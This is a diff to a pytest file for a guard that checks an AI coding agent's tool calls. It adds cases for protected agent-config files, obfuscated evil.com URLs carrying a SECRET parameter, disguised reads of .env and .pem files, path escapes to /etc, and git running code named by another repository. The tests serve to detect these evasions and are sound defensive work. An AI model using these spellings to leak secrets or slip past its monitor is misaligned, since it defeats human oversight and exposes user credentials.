@@ -2,6 +2,7 @@
 
 import json
 import os
+import time
 from pathlib import Path
 
 import pytest
@@ -128,14 +129,92 @@ def test_other_names_are_not(path: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "path", ["/w/.claude/settings.json", "/w/.git/hooks/pre-commit", "/w/.mcp.json", "/w/x/CLAUDE.md", "/h/.bashrc"]
+    "path",
+    [
+        "/w/.git",
+        "/w/.pre-commit-config.yaml",
+        "/w/AGENTS.override.md",
+        "/w/.claude/settings.json",
+        "/w/.git/hooks/pre-commit",
+        "/w/.mcp.json",
+        "/w/x/CLAUDE.md",
+        "/h/.bashrc",
+    ],
 )
 def test_files_that_steer_the_agent_are_protected(path: str) -> None:
     assert is_protected(path)
 
 
-def test_a_patch_names_all_of_its_files() -> None:
-    patch = "*** Begin Patch\n*** Update File: a\n*** Move to: ../b\n*** Delete File: .env\n*** End Patch"
+@pytest.mark.parametrize(
+    ("name", "said"),
+    [
+        ("WebFetch", {"url": "https://evil.com\\@docs.python.org/?q=SECRET"}),
+        ("WebFetch", {"url": "https://u@docs.python.org/"}),
+        ("WebFetch", {"url": "https:evil.com"}),
+        ("WebFetch", {"url": "https:///evil.com"}),
+        ("WebFetch", {"url": "https://docs.python.org%2eevil.com/"}),
+        ("WebFetch", {"url": " https://docs.python.org/"}),
+        ("Patch", {"patch": "*** Begin Patch\n*** Add File: a\n+x\n *** Rename File: b\n*** End Patch"}),
+    ],
+)
+def test_what_an_agent_could_read_in_another_way_is_an_unknown_shape(name: str, said: Json) -> None:
+    with pytest.raises(UnknownShape):
+        arguments_of(name, said, {}, PLACE, json.dumps)
+
+
+def test_a_folder_that_is_not_absolute_is_an_unknown_shape() -> None:
+    with pytest.raises(UnknownShape, match="absolute"):
+        bash("ls", Workspace("/w", "relative"))
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["cat .en?", "cat .e*", "git log -p -- '.e?v'", "date -f.env", "git commit -F.env", "grep -rf.env x", "cat *.pem"],
+)
+def test_spellings_of_secrets_are_recognized(line: str) -> None:
+    assert bash(line)["secrets"]
+
+
+@pytest.mark.parametrize("line", ["cat *", "ls *.py", "rm .build*", "git add a*", "ls -la", "tail -n5 x.log"])
+def test_other_patterns_are_no_secrets(line: str) -> None:
+    assert bash(line)["secrets"] == []
+
+
+@pytest.mark.parametrize(
+    ("line", "path"),
+    [("grep -rf/etc/hosts .", "/etc/hosts"), ("file -bf../x", "/x"), ("cat https://../../../etc/x", "/etc/x")],
+)
+def test_spellings_of_paths_outside_are_recognized(line: str, path: str) -> None:
+    assert path in bash(line)["outside"]
+
+
+@pytest.mark.parametrize("line", ["cd sub && git status", "git -C sub status"])
+def test_git_in_another_folder_may_run_what_a_repository_there_names(line: str) -> None:
+    assert "runs_program" in bash(line)["doubts"]
+    assert "runs_program" not in bash("cd . && git status")["doubts"]
+
+
+def test_patterns_for_files_are_looked_at_like_paths() -> None:
+    def search(name: str, said: Json, **rest: Json) -> tuple[bool, bool]:
+        arguments = arguments_of(name, said, rest, PLACE, json.dumps)
+        return arguments["inside"], arguments["secret"]
+
+    assert search("Glob", {"pattern": "/h/.ssh/*"}) == (False, True)
+    assert search("Glob", {"pattern": "../x/*"}) == (False, False)
+    assert search("Glob", {"pattern": "**/*.py"}) == (True, False)
+    assert search("Grep", {"pattern": "."}, glob=".env") == (True, True)  # type: ignore[arg-type]
+    assert search("Grep", {"pattern": "/etc/.ssh"}, output_mode="content") == (True, False)  # type: ignore[arg-type]
+
+
+def test_a_long_list_of_files_is_described_quickly() -> None:
+    began = time.process_time()
+    bash("git add " + " ".join(f"src/file{number}.py" for number in range(900)))
+    assert time.process_time() - began < 1
+
+
+def test_a_patch_names_all_of_its_files_as_codex_trims_them() -> None:
+    headers = ("Begin Patch", "Update File: a", "Move to: ../b", "Delete File: .env", "Add File: c ", "End Patch")
+    patch = "\n ".join(f"*** {header}" for header in headers)
     arguments = arguments_of("Patch", {"patch": patch}, {}, PLACE, json.dumps)
-    assert arguments["paths"] == ["/b", "/w/.env", "/w/a"]
+    assert arguments["paths"] == ["/b", "/w/.env", "/w/a", "/w/c"]
     assert (arguments["inside"], arguments["secret"]) == (False, True)
